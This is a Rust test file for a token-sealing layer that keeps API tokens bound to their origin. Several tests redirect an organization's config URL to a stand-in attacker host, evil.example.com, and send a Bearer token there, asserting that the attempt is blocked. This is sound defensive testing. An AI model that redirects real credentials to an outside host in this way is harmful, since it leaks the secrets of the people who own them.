//! A value that is written stays bound to the API that it is of.

use super::*;

fn record(token: &str, rest: &str) -> String {
    format!("{{\"token\":\"{token}\"{rest}}}")
}

#[test]
fn a_kept_token_does_not_leave_its_origin_by_losing_it() {
    let mut session = session();
    let with_origin = format!(",\"orgId\":\"a\",\"origin\":\"{BASE}\"");
    let kept = text_of(&read(&mut session, "token/x", &record(OTHER, &with_origin)), "token");
    assert!(write(&mut session, "token/x", &record(&kept, &with_origin)).is_ok());
    // The next request would send it where the config of `a` leads by then.
    let without = record(&kept, ",\"orgId\":\"a\"");
    write(&mut session, "token/x", &without).unwrap_err();
    // The config of the organization leads elsewhere, and then to the same origin.
    read(&mut session, "config/a", "{\"url\":\"https://evil.example.com\"}");
    write(&mut session, "token/x", &without).unwrap_err();
    let mut session = super::session();
    let kept = text_of(&read(&mut session, "token/x", &record(OTHER, &with_origin)), "token");
    read(&mut session, "config/a", &format!("{{\"url\":\"{BASE}/gateway\"}}"));
    let without = record(&kept, ",\"orgId\":\"a\"");
    assert_eq!(write(&mut session, "token/x", &without), Ok(without.replace(&kept, OTHER)));
    // Where nothing names an origin, it goes nowhere from now on.
    assert!(write(&mut session, "token/x", &record(&kept, "")).is_ok());
    assert!(write(&mut session, "token/x", &record(&kept, ",\"origin\":7")).is_ok());
}

#[test]
fn a_record_that_never_had_an_origin_is_written_back_as_it_is() {
    let mut session = session();
    let stored = record(OTHER, ",\"orgId\":\"a\"");
    let seen = read(&mut session, "token/x", &stored);
    assert_eq!(write(&mut session, "token/x", &seen), Ok(stored));
    write(&mut session, "token/x", &seen.replace("\"a\"", "\"b\"")).unwrap_err();
}

#[test]
fn an_entry_that_the_guest_wrote_first_names_no_destination() {
    let entry = |url: &str| format!("{{\"url\":\"{url}\"}}");
    let mut session = session();
    write(&mut session, "config/a", &entry("https://evil.example.com")).unwrap();
    read(&mut session, "config/a", &entry("https://evil.example.com"));
    let kept = text_of(&read(&mut session, "token/x", &record(OTHER, ",\"orgId\":\"a\"")), "token");
    let header = format!("Bearer {kept}");
    sent(&mut session, "GET", "https://evil.example.com/v2/org", &header).unwrap_err();
    // What was read before it is written counts, as the engine does it.
    let mut session = super::session();
    read(&mut session, "config/a", &entry(BASE));
    write(&mut session, "config/a", &entry("https://evil.example.com")).unwrap();
    read(&mut session, "config/a", &entry("https://evil.example.com"));
    let kept = text_of(&read(&mut session, "token/x", &record(OTHER, ",\"orgId\":\"a\"")), "token");
    let header = format!("Bearer {kept}");
    sent(&mut session, "GET", &format!("{BASE}/v2/org"), &header).unwrap();
    sent(&mut session, "GET", "https://evil.example.com/v2/org", &header).unwrap_err();
    // A new config of a request without `url` goes where its token went before, also if a write is repeated.
    let mut session = super::session();
    let mut data = format!("{{\"org_id\":\"a\",\"astra_token\":\"{TOKEN}\"}}");
    session.seal_request("config", &mut data).unwrap();
    let token = text_of(&data, "astra_token");
    for _ in 0..2 {
        write(&mut session, "config/a", &config(&token, BASE)).unwrap();
    }
    sent(&mut session, "GET", &format!("{BASE}/v2/org"), &format!("Bearer {token}")).unwrap();
}

#[test]
fn a_stored_text_that_is_no_secret_of_its_class_is_withheld_as_a_whole() {
    for short in ["AstraCS:client:abc123", "hunter2", "a b c d e f g h i j k l m n o p q r", "q\"uote\\d\n"] {
        let stored = serde_json::json!({ "astra_token": short, "url": BASE }).to_string();
        let mut session = session();
        let seen = read(&mut session, "config/a", &stored);
        let withheld = text_of(&seen, "astra_token");
        assert!(withheld.len() == 32 && !seen.contains("abc123") && !seen.contains("hunter2"), "{seen}");
        // It cannot be compared, not even with itself, and goes nowhere but back.
        let again = read(&mut session, "config/a", &stored);
        assert_ne!(text_of(&again, "astra_token"), withheld);
        for same in [&seen, &again] {
            assert_eq!(write(&mut session, "config/a", same).as_deref(), Ok(stored.as_str()));
        }
        write(&mut session, "config/a", &seen.replace(BASE, "https://evil.example.com")).unwrap_err();
        assert!(write(&mut session, "config/b", &seen).is_ok(), "where a value of the class may be");
        write(&mut session, "retired/a", &format!("{{\"damaged\":[\"{withheld}\"]}}")).unwrap_err();
        write(&mut session, "token/x", &format!("{{\"token\":\"{withheld}\"}}")).unwrap_err();
        sent(&mut session, "GET", &format!("{BASE}/v2/org"), &format!("Bearer {withheld}")).unwrap_err();
        session.open_response("creds/a/b", &mut format!("{{\"token\":\"{withheld}\"}}")).unwrap_err();
        let violation = session.violation().unwrap().to_string();
        assert!(violation.contains("`admin-token`"), "{violation}");
    }
    let long = "x".repeat(crate::limits::VALUE_BYTES_MAX + 1);
    let mut session = session();
    let seen = read(&mut session, "config/a", &config(&long, BASE));
    assert!(!seen.contains("xxxx"));
    assert_eq!(write(&mut session, "config/a", &seen), Ok(config(&long, BASE)));
}
